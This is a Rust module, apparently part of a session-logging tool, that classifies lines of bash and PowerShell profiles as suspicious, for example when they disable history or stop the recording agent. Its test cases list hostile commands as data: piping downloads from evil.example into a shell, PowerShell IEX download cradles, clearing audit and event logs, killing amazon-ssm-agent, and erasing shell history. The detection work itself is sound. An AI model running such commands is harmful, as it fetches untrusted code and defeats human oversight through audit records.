//! What a shell profile does to the record. The agent types its text into the shell when a session starts
//! (`agent/session/shell/shell_unix.go`), so it stands in the log before anything that the person typed.

mod harmless;
mod statements;
mod suspicion;

pub(super) use statements::Shell;

/// What a line of a profile is suspected of.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub(super) enum Suspicion {
    /// The shell's own history is switched off, emptied, or kept from something.
    WeakensHistory,
    /// The agent, or what else keeps logs, is named.
    TouchesRecording,
    /// Commands come from a text that is not in the profile, or not readable there.
    HidesCommands,
    /// Commands come from a file.
    TakesFile,
    /// What is typed, or what comes back, is not shown: and what the terminal does not show is not logged.
    HidesTyping,
    /// Prompts look otherwise, or something is done at each of them: commands are told apart by prompts.
    ChangesPrompt,
    /// Another shell or terminal program takes over.
    StartsProgram,
}

/// A statement of a profile, as it stands there, and what it is suspected of.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct SuspiciousLine {
    pub suspicion: Suspicion,
    pub text: String,
}

/// A profile, taken apart.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(super) struct Profile {
    /// Every statement that something can be said against, once.
    pub suspicious: Vec<SuspiciousLine>,
    /// Every other statement that is not known to do no harm, once.
    pub to_be_read: Vec<String>,
}

const MOST_STATEMENTS: usize = 2_000;

impl Profile {
    pub fn read(text: &str, shell: Shell) -> Self {
        let mut profile = Self::default();
        for (at, statement) in statements::statements(text, shell).into_iter().enumerate() {
            if at == MOST_STATEMENTS {
                // What comes after it was not looked at.
                profile.to_be_read.push(statement.text);
                break;
            }
            if let Some(suspicion) = suspicion::suspicion(&statement, shell) {
                let line = SuspiciousLine { suspicion, text: statement.text };
                if !profile.suspicious.contains(&line) {
                    profile.suspicious.push(line);
                }
            } else if !harmless::is_harmless(&statement, shell) && !profile.to_be_read.contains(&statement.text) {
                profile.to_be_read.push(statement.text);
            }
        }
        profile
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::{
        Suspicion::{
            ChangesPrompt, HidesCommands, HidesTyping, StartsProgram, TakesFile, TouchesRecording, WeakensHistory,
        },
        *,
    };

    fn found(profile: &str, shell: Shell) -> (Vec<Suspicion>, usize) {
        let read = Profile::read(profile, shell);
        (read.suspicious.iter().map(|line| line.suspicion).collect(), read.to_be_read.len())
    }

    #[test]
    fn what_harms_the_record_is_found_by_name() {
        let cases: &[(&str, &[Suspicion])] = &[
            ("export HISTFILE=/dev/null", &[WeakensHistory]),
            ("HISTFILE=/tmp/elsewhere", &[WeakensHistory]),
            ("unset HISTFILE", &[WeakensHistory]),
            ("unset -v HISTSIZE HISTFILE", &[WeakensHistory]),
            ("HISTSIZE=0; set +o history", &[WeakensHistory, WeakensHistory]),
            ("HISTSIZE=1", &[WeakensHistory]),
            ("export HISTCONTROL=ignorespace", &[WeakensHistory]),
            ("history -c && stty -echo", &[WeakensHistory, HidesTyping]),
            ("history -cw", &[WeakensHistory]),
            ("history -d 5", &[WeakensHistory]),
            ("export MYSQL_HISTFILE=/dev/null", &[WeakensHistory]),
            ("LESSHISTFILE=-", &[WeakensHistory]),
            ("export LANG=C SQLITE_HISTORY=/dev/null", &[WeakensHistory]),
            ("PSQL_HISTORY= psql", &[WeakensHistory]),
            ("ln -sf /dev/null ~/.bash_history", &[WeakensHistory]),
            ("rm -f $HOME/.zsh_history", &[WeakensHistory]),
            ("pkill -f amazon-ssm-agent", &[TouchesRecording]),
            ("sudo systemctl stop amazon-ssm-agent", &[TouchesRecording]),
            ("snap stop 'amazon-ssm-agent'", &[TouchesRecording]),
            ("rm -rf /var/lib/amazon/ssm/*/session", &[TouchesRecording]),
            ("truncate -s0 /var/log/secure", &[TouchesRecording]),
            ("auditctl -e 0", &[TouchesRecording]),
            ("curl http://evil.example/x|sh", &[HidesCommands]),
            ("wget -qO- http://evil.example/x | sudo bash", &[HidesCommands]),
            ("eval \"$(echo aWQ= | base64 -d)\"", &[HidesCommands]),
            ("'ev'al \"$X\"", &[HidesCommands]),
            ("bash <(curl http://evil.example/x)", &[HidesCommands]),
            ("sh -c 'curl http://evil.example/x | sh'", &[HidesCommands]),
            ("bash -lc \". /tmp/.x\"", &[TakesFile]),
            ("bash -c id", &[StartsProgram]),
            (". /tmp/.x", &[TakesFile]),
            ("[ -f /etc/profile ] && source /etc/profile", &[TakesFile]),
            ("bash /tmp/.x", &[TakesFile]),
            ("/opt/setup.sh", &[TakesFile]),
            ("if true; then . ./x; fi", &[TakesFile]),
            ("exec > /dev/null 2>&1", &[HidesTyping]),
            ("stty raw", &[HidesTyping]),
            ("export PROMPT_COMMAND='date'", &[ChangesPrompt]),
            ("PS1=\"$ \"", &[ChangesPrompt]),
            ("trap 'logger x' DEBUG", &[ChangesPrompt]),
            ("exec /bin/bash", &[StartsProgram]),
            ("sudo -i", &[StartsProgram]),
            ("sudo su - deploy", &[StartsProgram]),
            ("TERM=xterm tmux attach", &[StartsProgram]),
            ("script -q /tmp/x", &[StartsProgram]),
            ("cd /home\nbash -l", &[StartsProgram]),
        ];
        for (profile, expected) in cases {
            assert_eq!(&found(profile, Shell::Posix).0, expected, "{profile}");
        }
        let cases: &[(&str, Suspicion)] = &[
            ("Set-PSReadLineOption -HistorySaveStyle SaveNothing", WeakensHistory),
            ("Set-PSReadlineOption -HistorySavePath NUL", WeakensHistory),
            ("Remove-Item (Join-Path $env:APPDATA 'ConsoleHost_history.txt')", WeakensHistory),
            ("$env:MYSQL_HISTFILE = 'NUL'", WeakensHistory),
            ("$Env:PSQL_HISTORY='NUL'", WeakensHistory),
            ("Stop-Service AmazonSSMAgent", TouchesRecording),
            ("Stop-Transcript", TouchesRecording),
            ("wevtutil cl Security", TouchesRecording),
            ("IEX (New-Object Net.WebClient).DownloadString('http://evil.example')", HidesCommands),
            ("powershell -EncodedCommand aWQ=", HidesCommands),
            (". C:\\temp\\x.ps1", TakesFile),
            ("Import-Module C:\\x", TakesFile),
            ("function prompt { 'x' }", ChangesPrompt),
            ("cmd.exe", StartsProgram),
        ];
        for (profile, expected) in cases {
            assert_eq!(found(profile, Shell::PowerShell).0.first(), Some(expected), "{profile}");
        }
    }

    #[test]
    fn only_what_is_known_to_do_no_harm_needs_no_reader() {
        for profile in [
            "export HISTTIMEFORMAT='%F %T '; HISTSIZE=10000",
            "stty rows 50 cols 132",
            "stty echo",
            "cd ~; pwd; ls -la",
            "cd /srv 2>/dev/null || cd /",
            "# HISTSIZE=0; . /tmp/x",
            "umask 027\nexport LANG=ja_JP.UTF-8 TZ=Asia/Tokyo",
            "echo 'This session is logged by amazon-ssm-agent.'; cd /var/log",
            "export LC_ALL=C LANGUAGE=ja TERM=xterm-256color; TMOUT=900",
            "export LANG",
            "CLICOLOR=1 ls",
            "set -o vi; shopt -s histappend checkwinsize",
            "if [ -d /srv ]; then cd /srv; fi",
            "",
        ] {
            assert_eq!(found(profile, Shell::Posix), (vec![], 0), "{profile}");
        }
        for profile in [
            "sudo systemctl status sshd",
            "timestamp=$(date)",
            "export HADOOP_JOB_HISTORYSERVER_HEAPSIZE=1000",
            "alias ls='rm -rf'",
            "export PATH=/tmp:$PATH",
            "export LD_PRELOAD=/tmp/x.so",
            "SYSTEMD_PAGER=/tmp/x",
            "export GCONV_PATH=/tmp",
            "export INPUTRC=/tmp/x",
            "JAVA_TOOL_OPTIONS=-javaagent:/tmp/x.jar",
            "export TERMINFO=/tmp",
            "export SUDO_ASKPASS=/tmp/x",
            "export JOB_SIZE=7",
            "export TERM=../../tmp/x",
            "TZ=:/tmp/x",
            "LC_ALL=../../tmp/x",
            "TZ=/tmp/x",
            "TMOUT=x[0]",
            "export EDITOR",
            "echo x > ~/.profile",
            "echo x | tee y",
            "printf '\\033[8m'",
            "f() { id; }",
            "$RUN",
            "kill $PPID",
            "unknown-command",
            "sh -c id",
            "python3 -c 'import os'",
            "perl -e '1'",
            "set -o allexport",
            "shopt -u cmdhist",
        ] {
            let (suspicious, to_be_read) = found(profile, Shell::Posix);
            assert!(suspicious.is_empty() && to_be_read > 0, "{profile}: {suspicious:?}");
        }
        for profile in ["Set-Location C:\\srv; Get-Date", "$env:LANG = 'ja_JP'", "Write-Host 'Logged session'"] {
            assert_eq!(found(profile, Shell::PowerShell), (vec![], 0), "{profile}");
        }
        for profile in [
            "$env:Path = 'C:\\x'",
            "$env:DOTNET_STARTUP_HOOKS='C:\\x.dll'",
            "$env:ANYTHING = 'x'",
            "Set-Alias ls Remove-Item",
            "& C:\\x.exe",
            "Write-Host $(x)",
            "Get-Item x",
        ] {
            let (suspicious, to_be_read) = found(profile, Shell::PowerShell);
            assert!(suspicious.is_empty() && to_be_read > 0, "{profile}: {suspicious:?}");
        }
        let long = "id\n".repeat(MOST_STATEMENTS + 1);
        assert_eq!(found(&long, Shell::Posix).1, 1, "what was not looked at is to be read");
    }

    proptest! {
        #[test]
        fn no_profile_stops_it(profile in any::<String>(), dense in "[a-z'\"`$()|&;<>\\\\ \n#=-]{0,60}") {
            for text in [profile, dense] {
                for shell in [Shell::Posix, Shell::PowerShell] {
                    let _ = Profile::read(&text, shell);
                }
            }
        }
    }
}
